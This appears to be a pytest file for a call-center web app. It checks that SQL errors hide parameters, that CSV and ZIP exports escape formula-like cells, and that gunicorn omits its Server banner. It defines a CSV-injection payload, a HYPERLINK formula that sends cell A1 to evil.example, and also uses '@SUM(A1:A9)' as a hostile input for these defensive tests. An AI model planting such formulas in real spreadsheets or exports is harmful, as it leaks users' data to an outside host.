"""What must not leak: statement parameters in errors and logs, formulas in CSV files,
the server's name and version."""

from __future__ import annotations

import csv
import io
import runpy
import zipfile

import pytest
import sqlalchemy as sa

from callcenter.extensions import db
from callcenter.models import User
from tests.factories import PASSWORD, bearer

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_database_errors_carry_no_parameters(app, factory, caplog):
    factory.admin("secret.person@example.com")
    with app.app_context():
        db.session.add(User(email="secret.person@example.com", password_hash="x",
                            role="admin", active=True, session_version=1))
        with pytest.raises(sa.exc.IntegrityError) as exc:
            db.session.flush()
        db.session.rollback()
    # PostgreSQL's own DETAIL line names the key; the log filter redacts it (see
    # test_request_logs); SQLAlchemy's parameter list is not there at all.
    assert "[SQL parameters hidden due to hide_parameters=True]" in str(exc.value)
    assert "'secret.person@example.com'" not in str(exc.value)


@pytest.fixture
def owner_with_hostile_consent(client, factory):
    tenant = factory.tenant()
    headers = bearer(factory.token(tenant.owner_email))
    resp = client.post(f"/api/v1/tenants/{tenant.id}/consents", headers=headers,
                       json={"numbers": ["+442079460000"], "source": FORMULA,
                             "evidence": "@SUM(A1:A9)"})
    assert resp.status_code == 200 and resp.get_json()["valid"] == 1
    return tenant, headers


def test_csv_cells_that_look_like_formulas_are_escaped(client, owner_with_hostile_consent):
    tenant, _ = owner_with_hostile_consent
    client.post("/login", data={"email": tenant.owner_email, "password": PASSWORD})
    resp = client.get("/portal/consents?format=csv")
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
    assert rows[1][:3] == ["+442079460000", "'" + FORMULA, "'@SUM(A1:A9)"]


def test_the_export_zip_escapes_formulas_too(client, owner_with_hostile_consent):
    tenant, headers = owner_with_hostile_consent
    resp = client.get(f"/api/v1/tenants/{tenant.id}/export", headers=headers)
    with zipfile.ZipFile(io.BytesIO(resp.data)) as archive:
        text = archive.read("consents.csv").decode()
        assert "'" + FORMULA.replace('"', '""') in text and "'@SUM" in text
        assert FORMULA in archive.read("consents.json").decode().replace('\\"', '"')


def test_gunicorn_sends_no_server_banner(project_root):
    from gunicorn.http import wsgi

    original = wsgi.Response.default_headers
    try:
        runpy.run_path(str(project_root / "gunicorn.conf.py"))

        class Req:
            version = (1, 1)
            method = "GET"

            def should_close(self):
                return False

        response = wsgi.Response(Req(), None, None)
        response.status, response.status_code = "200 OK", 200
        lines = response.default_headers()
        assert lines[0].startswith("HTTP/1.1 200") and any(x.startswith("Date:") for x in lines)
        assert not any(x.lower().startswith("server:") for x in lines)
    finally:
        wsgi.Response.default_headers = original
